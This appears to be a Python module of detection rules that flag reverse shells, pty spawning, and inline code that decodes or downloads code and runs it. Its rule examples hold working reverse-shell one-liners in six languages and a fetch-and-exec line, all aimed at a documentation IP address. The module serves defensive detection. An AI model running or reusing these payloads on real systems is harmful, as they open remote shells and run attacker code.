"""Shells opened by inline program text, in whatever language."""

import re

from apps.detection.argv.interpreters import INTERPRETERS
from apps.detection.argv.invocation import Invocation
from apps.detection.reading import WRITTEN
from apps.detection.rules.base import Detail, Rule
from apps.detection.rules.shells.knowledge import GIVES_SHELL, LASTING, SHELLS

_ADDRESS = re.compile(r"\b(?:\d{1,3}\.){3}\d{1,3}\b")
_PLUMBED = (
    "dup2", "pty.spawn", "fileno()", "open(stdin", "to_i", "<&3", ">&3", "fdopen", "reopen(", "getstream(",
    "]=>tcpsocket", "run(pipeline",
)  # fmt: skip
_VAGUE = {"exec ", "eval(", "$stdin", "%x", "pipe("}
_SHORT = 1_500
_DECODES = (
    "b64decode", "base64.decode", "decode64", "base64_decode", "frombase64", "bytes.fromhex",
    "codecs.decode", "atob(", "decompress(", "unhexlify", "marshal.loads", "buffer.from(", "pack('h",
    'pack("h', "unpack('m", "decode_base64",
)  # fmt: skip
_RUNS = (
    "exec(", "eval(", "exec ", "eval ", "compile(", "os.system(", "system(", "runpy", "instance_eval",
    "function(",
)  # fmt: skip
_FETCHES = (
    "urlopen(", "requests.get(", "urlretrieve", "http.get(", "file_get_contents('http",
    'file_get_contents("http', "open-uri", "wget ", "curl ", "lwp::simple", "httpx.get(",
    "import requests", "urllib", "import httpx", "fetch(",

)  # fmt: skip


def _connected_shell(invocation: Invocation) -> Detail | None:
    code = invocation.code.lower()
    if not code:
        return None
    code_and_flags = (
        code + " " + " ".join(word for word in invocation.args if word[:2] in ("-r", "-M", "-m")).lower()
    )
    connects = next((word for word in LASTING if word in code_and_flags), "")
    gives = [word for word in GIVES_SHELL if word in code]
    shell = next((word for word in SHELLS if word in code), "")
    if not connects or not gives:
        return None
    plumbed = any(word in code for word in _PLUMBED)
    returns = any(
        word in code
        for word in (
            "recv(",
            "gets",
            "readline",
            "getline",
            "read(",
            ".read",
            "fgets",
            "receive",
            "on('data",
            'on("data',
        )
    )
    sends = any(
        word in code
        for word in ("send(", ".write", "print ", "puts", "sendall(", "|&", "pipe(", "fputs", "f:write")
    )
    if len(code) > _SHORT:  # a program, not a one-liner: only the plumbing itself tells
        return _answer(invocation) if ("dup2" in code and shell) or "pty.spawn" in code else None
    answers = (
        returns
        and sends
        and WRITTEN not in invocation.via
        and (set(gives) - _VAGUE or invocation.program in ("tclsh", "wish", "expect"))
    )
    if shell or plumbed or answers:
        return _answer(invocation)
    return None


def _answer(invocation: Invocation) -> Detail:
    address = _ADDRESS.search(invocation.code)
    return {
        "language": invocation.program,
        "remote": address.group() if address else "",
        "code": invocation.code,
    }


def _terminal(invocation: Invocation) -> Detail | None:
    code = invocation.code.lower()
    spawns = "pty.spawn(" in code or ("import pty" in code and "spawn" in code)
    return {"language": invocation.program, "code": invocation.code} if spawns else None


def _hidden_code(invocation: Invocation) -> Detail | None:
    """Decoded at run time and executed at once: the text shows nothing of what it does."""
    code = invocation.code.lower()
    decodes = next((word for word in _DECODES if word in code), "")
    runs = next((word for word in _RUNS if word in code), "")
    return (
        {"language": invocation.program, "decoder": decodes, "code": invocation.code}
        if decodes and runs
        else None
    )


def _fetched_code(invocation: Invocation) -> Detail | None:
    code = invocation.code.lower()
    fetches = next((word for word in _FETCHES if word in code), "")
    runs = next(
        (
            word
            for word in ("exec(", "eval(", "os.system(", "system(", "popen(", "subprocess")
            if word in code
        ),
        "",
    )
    if not fetches or not runs or "http" not in code:
        return None
    direct = runs in ("exec(", "eval(") or ".sh" in code or "chmod" in code or "sh " in code
    return {"language": invocation.program, "code": invocation.code} if direct else None


_HINTS = (
    "socket", "/inet/", "connect", "fsockopen", "createserver", "tcpclient", "gen_tcp", "net.dial",
    "tcpstream", "/dev/tcp/", "/dev/udp/", "sockaddr", "new_tcp", "make-network", "start_server",
)  # fmt: skip
_LANGUAGES = frozenset(INTERPRETERS) | {"go"}

CONNECTED = Rule(
    slug="shell-from-code",
    version=1,
    family="shells",
    behaviour="reverse shell",
    level="critical",
    technique="T1059.006",
    title="Reverse or bind shell in inline code",
    description="Program text on a command line opens a connection and ties a shell to it.",
    false_positives="Tests of network servers that also start a shell.",
    examples=(
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",443));[os.dup2('
        's.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
        'perl -e \'use Socket;$i="203.0.113.9";$p=443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh '
        "-i\");};'",
        'php -r \'$sock=fsockopen("203.0.113.9",443);exec("sh <&3 >&3 2>&3");\'',
        'ruby -rsocket -e \'f=TCPSocket.open("203.0.113.9",443).to_i;exec sprintf("sh -i <&%d >&%d 2>&%d",'
        "f,f,f)'",
        'awk \'BEGIN {s="/inet/tcp/0/203.0.113.9/443";while(1){s |& getline c;while((c |& getline)>0)print '
        "|& s;close(c)}}'",
        'node -e \'require("child_process").exec("x");var c=new(require("net").Socket)();c.connect(443,'
        '"203.0.113.9",function(){c.pipe(require("child_process").spawn("sh",[]).stdin)})\'',
    ),
    match=_connected_shell,
    code=True,
    programs=_LANGUAGES,
    hints=_HINTS,
)
TERMINAL = Rule(
    slug="terminal-from-code",
    version=1,
    family="shells",
    behaviour="reverse shell",
    level="high",
    technique="T1059.006",
    title="Terminal spawned by inline code",
    description=(
        "`pty.spawn` on a command line gives a bare connection a full terminal: the usual second step "
        "after a reverse shell."
    ),
    false_positives="Wrappers that need a terminal for a program; use script(1) there.",
    examples=("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",),
    match=_terminal,
    code=True,
    programs=frozenset({"python"}),
    hints=("pty",),
)
HIDDEN = Rule(
    slug="hidden-code",
    version=1,
    family="shells",
    behaviour="hidden code",
    level="high",
    technique="T1027",
    title="Inline code that decodes and runs itself",
    description="An interpreter is given text that decodes further text and executes it.",
    false_positives="Installers and test harnesses that pack a script into one argument.",
    examples=(
        'python3 -c "exec(__import__(\'base64\').b64decode(\'aW1wb3J0IG9z\'))"',
        'php -r \'eval(base64_decode("ZWNobw=="));\'',
    ),
    match=_hidden_code,
    code=True,
    programs=_LANGUAGES,
    hints=_DECODES,
)  # fmt: skip
FETCHED = Rule(
    slug="fetched-code",
    version=1,
    family="shells",
    behaviour="hidden code",
    level="medium",
    technique="T1105",
    title="Inline code that fetches and runs code",
    description="An interpreter is given text that downloads something and executes it.",
    false_positives="One-line installers.",
    examples=("python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.9/x').read())\"",),
    match=_fetched_code,
    code=True,
    programs=_LANGUAGES,
    hints=("http",),
)
RULES = (CONNECTED, TERMINAL, HIDDEN, FETCHED)
